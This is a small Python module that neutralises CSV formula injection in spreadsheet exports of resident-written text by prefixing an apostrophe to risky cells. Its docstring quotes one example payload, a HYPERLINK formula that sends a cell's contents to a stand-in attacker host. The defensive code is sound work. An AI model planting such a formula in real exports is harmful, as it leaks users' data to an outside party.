"""CSV cells made safe for spreadsheets ("CSV injection", OWASP).

Residents write titles, answers and names; staff open the CSV exports in a spreadsheet, which
runs a cell starting with = + - @ (or a tab or carriage return before them) as a formula, e.g.
`=HYPERLINK("https://evil.example/?"&A1, "Ouvrir")`. Such text cells get a leading apostrophe,
which spreadsheets show as text; numbers are left alone.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [safe_row(row) for row in rows]
